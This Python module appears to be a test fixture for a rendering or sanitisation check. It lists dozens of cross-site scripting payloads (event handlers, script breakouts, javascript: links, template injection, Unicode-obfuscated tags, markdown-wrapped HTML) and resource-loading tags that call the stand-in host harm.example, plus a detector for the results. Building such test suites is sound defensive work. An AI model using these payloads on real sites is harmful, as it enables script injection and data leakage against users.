"""Text that would do harm where text is taken for markup. Each sets ``window.sbfHarm`` or calls a foreign machine."""

from __future__ import annotations

FOREIGN = "http://harm.example"
_RUN = "window.sbfHarm=1"

_ATTRIBUTES = (
    ("img src=x", "onerror"), ("svg", "onload"), ("body", "onload"), ("iframe", "onload"), ("input autofocus", "onfocus"),
    ("select autofocus", "onfocus"), ("textarea autofocus", "onfocus"), ("video src=x", "onerror"), ("audio src=x", "onerror"),
    ("details open", "ontoggle"), ("marquee", "onstart"), ("div style='animation:x 1s'", "onanimationstart"), ("object data=x", "onerror"),
    ("a href=# autofocus tabindex=1", "onfocus"), ("p", "onmouseover"), ("button", "onclick"),
)  # fmt: skip
_FETCHED = (
    f"<img src={FOREIGN}/1>", f"<img srcset='{FOREIGN}/2 1x'>", f"<iframe src={FOREIGN}/3></iframe>", f"<script src={FOREIGN}/4></script>",
    f"<link rel=stylesheet href={FOREIGN}/5>", f"<style>@import '{FOREIGN}/6'</style>", f"<object data={FOREIGN}/7></object>",
    f"<embed src={FOREIGN}/8>", f"<video poster={FOREIGN}/9>", f"<audio src={FOREIGN}/10 autoplay>", f"<svg><image href={FOREIGN}/11 /></svg>",
    f"<svg><use href='{FOREIGN}/12#a'/></svg>", f"<div style='background:url({FOREIGN}/13)'>x</div>", f"<meta http-equiv=refresh content='0;{FOREIGN}/14'>",
    f"<base href={FOREIGN}/15>", f"<form action={FOREIGN}/16><input type=submit></form>", f"![x]({FOREIGN}/17)", f"[x]: {FOREIGN}/18\n![x]",
    f"<picture><source srcset={FOREIGN}/19><img></picture>", f"<input type=image src={FOREIGN}/20>", f"<table background={FOREIGN}/21>",
    f"<math><mtext href={FOREIGN}/22>x</mtext></math>", f"<link rel=prefetch href={FOREIGN}/23>", f"<a ping={FOREIGN}/24 href=#>x</a>",
)  # fmt: skip
_SCRIPTS = (
    f"<script>{_RUN}</script>", f"</script><script>{_RUN}</script>", f"<ScRiPt>{_RUN}</sCrIpT>", f"\"><script>{_RUN}</script>",
    f"'><svg/onload={_RUN}>", f"<svg><script>{_RUN}</script></svg>", f"<math><script>{_RUN}</script></math>", f"</textarea><script>{_RUN}</script>",
    f"</title><script>{_RUN}</script>", f"</style><script>{_RUN}</script>", f"<template><script>{_RUN}</script></template>",
    f"<noscript><p title='</noscript><script>{_RUN}</script>'>", "<iframe srcdoc='<script>parent.sbfHarm=1</script>'></iframe>",
    f"<a href='javascript:{_RUN}'>x</a>", f"[x](javascript:{_RUN})", f"<javascript:{_RUN}>", f"{{{{constructor.constructor('{_RUN}')()}}}}", f"${{{_RUN}}}",
    f"`${{{_RUN}}}`", f"<img src=`x` onerror={_RUN}//", f"<<img src=x onerror={_RUN}>", f"&lt;img src=x onerror={_RUN}&gt;", "<img src=x onerror=&#119;indow.sbfHarm=1>",
    f"\u202e<script>{_RUN}</script>", f"<scr\u200bipt>{_RUN}</script>", f"<!--><img src=x onerror={_RUN}-->", f"<![CDATA[<script>{_RUN}</script>]]>",
    f"**<img src=x onerror={_RUN}>**", f"# <img src=x onerror={_RUN}>", f"- <img src=x onerror={_RUN}>", f"> <img src=x onerror={_RUN}>",
    f"```html\n<script>{_RUN}</script>\n```", f"`<img src=x onerror={_RUN}>`", f"[1]<img src=x onerror={_RUN}>[1]", f"$\\href{{javascript:{_RUN}}}{{x}}$",
)  # fmt: skip

PAYLOADS: tuple[str, ...] = (*(f"<{tag} {event}={_RUN}>" for tag, event in _ATTRIBUTES), *_FETCHED, *_SCRIPTS)
HARM = "() => window.sbfHarm === undefined"
MADE = "img,iframe,object,embed,link,script,style,base,meta,video,audio,picture,math,marquee,details,a,form[action],[onload],[onerror],[onclick],[onfocus],[style*=url]"
"""Elements that no widget makes: whatever matches came out of a text."""
